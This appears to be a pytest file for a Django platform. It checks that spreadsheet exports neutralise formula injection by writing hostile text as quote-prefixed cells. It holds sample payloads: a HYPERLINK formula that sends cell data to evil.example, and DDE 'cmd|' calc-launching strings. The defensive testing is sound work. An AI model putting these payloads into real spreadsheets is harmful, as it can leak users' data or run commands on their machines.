"""Spreadsheet formula injection (issue 13, finding 7): every .xlsx the platform writes goes
through one cell writer (renda.core.documents.xlsx_*) that writes a text starting with
= + - @, a tab or a carriage return as a text cell with the quote prefix. Each export is
checked with a hostile value, and the source is checked for any writer that bypasses it."""

from __future__ import annotations

import ast
import datetime as dt
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from renda.appraisals import sheets
from renda.appraisals.models import Reporter
from renda.cases import services as case_services
from renda.congress.models import Deputy
from renda.core import documents
from renda.suggestions import services as suggestion_services
from renda.suggestions.ledger import ledger_response, meeting_list_xlsx
from renda.suggestions.models import Suggestion
from tests.fixtures import appraisals as appraisals_fixtures
from tests.fixtures.appraisals import closed_meeting

town = appraisals_fixtures.town  # the fixture, shared with the appraisal tests

EXFILTRATE = '=HYPERLINK("http://evil.example/?p="&G2,"点击查看")'
HOSTILE = [EXFILTRATE, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1"]


def _cells(body: bytes) -> list:  # noqa: ANN001
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_text(cells: list, value: str) -> None:  # noqa: ANN001
    found = [cell for cell in cells if cell.value == value]
    assert found, f"{value!r} not in the sheet"
    for cell in found:
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited


# --- the writer ------------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [False, True])
def test_the_writer_keeps_every_formula_trigger_as_text(write_only):
    book = documents.xlsx_workbook(write_only=write_only)
    sheet = documents.xlsx_sheet(book, "表" * 40)
    documents.xlsx_append(sheet, [*HOSTILE, "\r=1", "东塘村", 3, dt.date(2026, 5, 1)])
    body = documents.to_bytes(book)  # a write-only workbook is saved once
    cells = _cells(body)
    for value in HOSTILE:
        _assert_text(cells, value)
    assert [cell for cell in cells if cell.value == "东塘村"][0].quotePrefix is False
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert 3 in numbers
    assert not any(cell.data_type == "f" for cell in cells)
    assert load_workbook(io.BytesIO(body)).sheetnames == ["表" * 31]


# --- each export ---------------------------------------------------------------------------


def test_the_roster_export_writes_a_hostile_occupation_as_text(client, world):
    Deputy.objects.filter(pk=world.deputy_a.pk).update(occupation=EXFILTRATE, ethnicity="@x")
    client.force_login(world.staff)
    response = client.get(
        reverse("admin:congress_deputymembership_export"), {"term": world.term_a.pk}
    )
    assert response.status_code == 200
    cells = _cells(response.content)
    _assert_text(cells, EXFILTRATE)
    _assert_text(cells, "@x")
    assert not any(cell.data_type == "f" for cell in cells)


def _suggestion(world, title: str) -> Suggestion:  # noqa: ANN001
    suggestion = suggestion_services.create_draft(
        acting_user=world.deputy_user,
        congress=world.c_a,
        category=world.cat_a,
        title=title,
        content="具体情况和建议。",
        session=world.session_a,
    )
    suggestion_services.submit_suggestion(suggestion, acting_user=world.deputy_user)
    suggestion.refresh_from_db()
    return suggestion


@pytest.mark.parametrize("title", HOSTILE[1:4])
def test_the_suggestions_ledger_writes_hostile_titles_as_text(cases_world, title):
    suggestion = _suggestion(cases_world, title)
    response = ledger_response(Suggestion.objects.filter(pk=suggestion.pk), actor=cases_world.staff)
    cells = _cells(b"".join(response.streaming_content))
    _assert_text(cells, title)
    assert not any(cell.data_type == "f" for cell in cells)


def test_the_assignment_list_writes_a_hostile_title_as_text(cases_world):
    suggestion = _suggestion(cases_world, EXFILTRATE)
    case_services.triage_case(suggestion.case, acting_user=cases_world.staff)
    meeting = suggestion_services.create_meeting(
        congress=cases_world.c_a,
        title="-2026年代表建议交办会",
        held_on=dt.date(2026, 3, 10),
        acting_user=cases_world.staff,
    )
    suggestion_services.set_meeting_item(
        meeting, suggestion.case, acting_user=cases_world.staff, lead=cases_world.dept_a1
    )
    cells = _cells(meeting_list_xlsx(meeting))
    _assert_text(cells, EXFILTRATE)
    _assert_text(cells, "-2026年代表建议交办会")
    assert [cell for cell in cells if cell.value == "-2026年代表建议交办会"][0].font.b


def test_the_appraisal_sheets_write_hostile_names_as_text(world, town):
    meeting = closed_meeting(world, town)
    reporter = meeting.reporters.get(order=3)
    name = '=HYPERLINK("http://e.x/?"&B6)'  # within the name's 40 characters
    Reporter.objects.filter(pk=reporter.pk).update(name=name, post="+副镇长")
    reporter.refresh_from_db()
    for body in (sheets.meeting_xlsx(meeting), sheets.reporter_xlsx(reporter)):
        cells = _cells(body)
        _assert_text(cells, name)
        _assert_text(cells, "+副镇长")
        assert not any(cell.data_type == "f" for cell in cells)


# --- nothing bypasses the writer -------------------------------------------------------------

RENDA = Path(__file__).resolve().parent.parent.parent / "renda"
WRITER = RENDA / "core" / "documents.py"
_MADE_BY_WRITER = {"xlsx_workbook", "xlsx_sheet"}


def _sources() -> list[Path]:
    return [p for p in RENDA.rglob("*.py") if "migrations" not in p.parts and p != WRITER]


def _bypasses(path: Path) -> list[str]:
    """openpyxl used directly, or a workbook/sheet from the writer touched other than by
    handing it back to renda.core.documents (a raw `sheet.append`, `sheet["A1"] = …`)."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            names += [alias.name for alias in node.names]
            if any(name.split(".")[0] == "openpyxl" for name in names):
                found.append(f"{path.name}:{node.lineno} imports openpyxl")
    for function in ast.walk(tree):
        if not isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
            continue
        made = set()
        for node in ast.walk(function):
            if (
                isinstance(node, ast.Assign)
                and isinstance(node.value, ast.Call)
                and isinstance(node.value.func, ast.Attribute)
                and node.value.func.attr in _MADE_BY_WRITER
            ):
                made |= {t.id for t in node.targets if isinstance(t, ast.Name)}
        for node in ast.walk(function):
            if (
                isinstance(node, ast.Attribute | ast.Subscript)
                and isinstance(node.value, ast.Name)
                and node.value.id in made
            ):
                found.append(f"{path.name}:{node.lineno} touches {node.value.id} directly")
    return found


def test_no_xlsx_writer_bypasses_the_one_writer():
    bypasses = [line for path in _sources() for line in _bypasses(path)]
    assert bypasses == []
    writers = [p for p in _sources() if "xlsx_workbook(" in p.read_text(encoding="utf-8")]
    # The roster export, the suggestions ledger and 交办清单, the appraisal result sheets.
    assert {p.name for p in writers} >= {"roster.py", "ledger.py", "sheets.py"}


def test_the_bypass_check_sees_a_raw_writer(tmp_path):
    raw = tmp_path / "raw.py"
    raw.write_text(
        "from renda.core import documents\n"
        "def export(rows):\n"
        "    book = documents.xlsx_workbook()\n"
        "    sheet = documents.xlsx_sheet(book, 'x')\n"
        "    sheet.append(rows)\n"
        "    return documents.to_bytes(book)\n"
        "def other():\n"
        "    import openpyxl\n",
        encoding="utf-8",
    )
    assert len(_bypasses(raw)) == 2
